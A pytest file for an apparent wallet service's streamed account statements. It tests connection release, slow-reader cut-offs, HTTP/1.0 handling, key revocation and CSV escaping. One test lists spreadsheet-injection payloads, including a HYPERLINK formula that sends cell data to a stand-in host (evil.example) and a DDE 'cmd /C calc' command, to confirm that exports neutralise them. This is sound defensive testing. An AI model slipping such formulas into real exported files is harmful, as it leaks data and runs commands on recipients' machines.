"""A statement that is streamed gives back what it uses, whatever becomes of its client; and there are not too many."""

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any, cast

import pytest
import uvloop
from unit.http.wallet_double import WalletDouble, call

from wallet_engine.http import application as application_module
from wallet_engine.http.application import Application, create_app
from wallet_engine.http.gate import Gate
from wallet_engine.http.server import serve_http
from wallet_engine.routing.api_keys import ApiKey, new_key
from wallet_engine.service import streams
from wallet_engine.service.history import (
    STATEMENTS_MAX,
    STATEMENTS_OF_CALLER_MAX,
    GuardedHistory,
)
from wallet_engine.service.keyring import Keyring
from wallet_engine.telemetry.metrics import Metrics

PATH = "/v1/accounts/alice/statement?currency=USD"
ROW: dict[str, Any] = {
    **{
        "at": datetime(2026, 11, 21, tzinfo=UTC),
        "type": "transfer",
        "status": "success",
        "delta": 1,
        "balance": 1,
    },
    **{"transaction_id": None, "counterparty": "bob", "reference": None, "partition": 0, "seq": 1},
}


class Statement:
    """One with so many pieces."""

    opening_minor = 0

    def __init__(self, rows_max: int) -> None:
        self.rows_max = rows_max
        self.as_of = cast(Any, type("AsOf", (), {"at_ms": 0, "lag_s": 0.0}))
        self.read = 0

    async def lines(self) -> AsyncIterator[Sequence[Any]]:
        while self.read < self.rows_max:
            self.read += 1
            yield [ROW] * 500
            await asyncio.sleep(0)


class Reader:
    """Counts the statements that are open, each with a connection to the database."""

    def __init__(self, rows_max: int = 1_000_000) -> None:
        self.open = self.most = 0
        self.rows_max = rows_max
        self.statements: list[Statement] = []

    @asynccontextmanager
    async def statement(self, *_: Any) -> AsyncIterator[Statement]:
        self.open += 1
        self.most = max(self.most, self.open)
        self.statements.append(Statement(self.rows_max))
        try:
            yield self.statements[-1]
        finally:
            self.open -= 1


async def never_opened(*_: Any) -> None:
    return None


def app_of(reader: Reader, gate: Gate | None = None) -> Application:
    return create_app(WalletDouble(), history=GuardedHistory(cast(Any, reader), never_opened), gate=gate)


async def until(condition: Callable[[], bool]) -> None:
    async with asyncio.timeout(10):
        while not condition():
            await asyncio.sleep(0.01)


@asynccontextmanager
async def serving(reader: Reader, gate: Gate | None = None) -> AsyncIterator[Callable[..., Any]]:
    """Gives a function that sends a request and returns the connection."""
    stop, listening = asyncio.Event(), asyncio.get_running_loop().create_future()
    serving = asyncio.create_task(
        serve_http(app_of(reader, gate), "127.0.0.1", 0, stop=stop, on_listening=listening.set_result)
    )
    writers: list[asyncio.StreamWriter] = []

    async def ask(
        method: str = "GET", more: str = "", version: str = "1.1"
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        port = (await asyncio.wait_for(asyncio.shield(listening), 5)).rpartition(":")[2]
        answer, writer = await asyncio.open_connection("127.0.0.1", int(port))
        writers.append(writer)
        writer.write(f"{method} {PATH} HTTP/{version}\r\nhost: wallet\r\n{more}\r\n".encode())
        return answer, writer

    try:
        yield ask
    finally:
        for writer in writers:
            writer.transport.abort()
        stop.set()
        await asyncio.wait_for(serving, 20)


async def status_of(answer: asyncio.StreamReader) -> bytes:
    return (await asyncio.wait_for(answer.readline(), 10)).split(b" ")[1]


def test_g10_who_hangs_up_is_sent_no_more() -> None:
    """It was read from the database to its end, for nobody."""

    async def scenario() -> None:
        reader = Reader()
        async with serving(reader) as ask:
            answer, writer = await ask()
            assert await status_of(answer) == b"200"
            writer.transport.abort()
            await until(lambda: reader.open == 0)
            answer, _ = await ask()
            assert await status_of(answer) == b"200"

    uvloop.run(scenario())


def test_g10_who_reads_too_slowly_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(application_module, "STREAM_S_MAX", 0.5)

    async def scenario() -> None:
        reader = Reader()
        async with serving(reader) as ask:
            answer, _ = await ask()
            assert await status_of(answer) == b"200"
            await until(lambda: reader.open == 0)

    uvloop.run(scenario())


def test_http_1_0_gets_no_chunks_and_half_an_answer_does_not_look_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def scenario() -> None:
        async with serving(Reader(rows_max=3)) as ask:
            answer, _ = await ask(version="1.0", more="accept: text/csv\r\n")
            head, _, body = (await asyncio.wait_for(answer.read(), 10)).partition(b"\r\n\r\n")
            assert b"transfer-encoding" not in head.lower()
            assert b"connection: close" in head.lower()
            whole = json.loads(body)
            assert len(whole["lines"]) == 1500
            answer, _ = await ask("HEAD", version="1.0")
            head = await asyncio.wait_for(answer.read(), 10)
            assert b" 200 " in head
            assert head.endswith(b"\r\n\r\n")
        monkeypatch.setattr(application_module, "STREAM_S_MAX", 0.5)
        async with serving(Reader()) as ask:
            answer, _ = await ask(version="1.0")
            assert await status_of(answer) == b"200"
            await asyncio.sleep(1)
            with pytest.raises(ConnectionResetError):
                await asyncio.wait_for(answer.read(), 10)

    uvloop.run(scenario())


def test_g13_a_key_that_ends_is_sent_no_more() -> None:
    async def run() -> None:
        reader, keyring = Reader(), Keyring()
        key, shown = new_key(ApiKey(id="", name="n", role="auditor"))
        other, _ = new_key(ApiKey(id="", name="o", role="auditor"))
        keyring.replace({key.id: key, other.id: other})
        async with serving(reader, Gate(Metrics(), keyring)) as ask:
            answer, _ = await ask(more=f"authorization: Bearer {shown}\r\n")
            assert await status_of(answer) == b"200"
            keyring.replace({key.id: key})  # another key's end ends nothing
            await asyncio.wait_for(answer.readexactly(5_000_000), 10)
            keyring.replace({other.id: other})
            rest = await asyncio.wait_for(answer.read(), 10)
            assert not rest.endswith(b"0\r\n\r\n")
            await until(lambda: not reader.open)

    uvloop.run(run())


TEXTS = [
    *(
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\uff1d1+1",
        "'quoted'",
    ),
    *("''twice", "room 7", "a, b", 'say "so"', "1=1", "\U0001f600"),
]


def test_no_cell_of_a_callers_text_is_a_formula_and_the_text_can_be_had_again() -> None:
    """A payer who writes a formula as reference must not run it in the spreadsheet of whom he paid."""

    class Told(Statement):
        async def lines(self) -> AsyncIterator[Sequence[Any]]:
            yield [{**ROW, "reference": each} for each in TEXTS]
            yield [{**ROW, "counterparty": each} for each in ("-1", "@bank", "bob")]

    class ToldReader(Reader):
        @asynccontextmanager
        async def statement(self, *_: Any) -> AsyncIterator[Statement]:
            yield Told(0)

    body = call(app_of(ToldReader()), "GET", f"{PATH}&format=csv").content
    _, *rows, _ = csv.DictReader(io.StringIO(body.decode()))
    told = [row["reference"] for row in rows[: len(TEXTS)]]
    assert not [cell for cell in told if cell[0] in "=+-@\uff1d"]
    assert [cell.removeprefix("'") for cell in told] == TEXTS
    assert [row["counterparty"] for row in rows[len(TEXTS) :]] == ["'-1", "@bank", "bob"]


def test_a_head_alone_reads_nothing() -> None:
    async def scenario() -> None:
        reader = Reader()
        async with serving(reader) as ask:
            answer, _ = await ask("HEAD")
            assert await status_of(answer) == b"200"
            await until(lambda: reader.open == 0)
            assert reader.statements[0].read == 0

    uvloop.run(scenario())


def test_g10_slow_readers_leave_connections_for_others(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(streams, "TURN_S_MAX", 0.3)

    async def scenario() -> None:
        reader = Reader()
        async with serving(reader) as ask:
            slow = [await ask() for _ in range(STATEMENTS_OF_CALLER_MAX)]
            assert [await status_of(answer) for answer, _ in slow] == [b"200"] * STATEMENTS_OF_CALLER_MAX
            answer, _ = await ask()
            assert await status_of(answer) == b"503"
            assert reader.open == STATEMENTS_OF_CALLER_MAX
            waiting, _ = await ask()
            slow[0][1].transport.abort()
            assert await status_of(waiting) == b"200"
        assert reader.open == 0

    assert STATEMENTS_OF_CALLER_MAX < STATEMENTS_MAX
    uvloop.run(scenario())


def test_many_short_ones_wait_for_each_other() -> None:
    async def scenario() -> None:
        reader = Reader(rows_max=1)
        async with serving(reader) as ask:
            asked = [await ask() for _ in range(50)]
            assert {await status_of(answer) for answer, _ in asked} == {b"200"}
            await until(lambda: reader.open == 0)
        assert reader.most <= STATEMENTS_OF_CALLER_MAX

    uvloop.run(scenario())


def test_an_answer_that_cannot_begin_gives_back_its_connection() -> None:
    """Its stream had not begun, and what has not begun has no end: eight of them, and the past was 503 for all."""

    async def scenario() -> None:
        reader = Reader()
        path, _, query = PATH.partition("?")
        scope = {"type": "http", "method": "GET", "path": path, "query_string": query.encode(), "headers": []}

        async def receive() -> Any:
            return {"type": "http.request", "body": b""}

        async def send(_message: Any) -> None:
            raise OSError("the client is gone")

        with pytest.raises(OSError, match="gone"):
            await app_of(reader)(cast(Any, scope), receive, send)
        assert (len(reader.statements), reader.open) == (1, 0)

    uvloop.run(scenario())
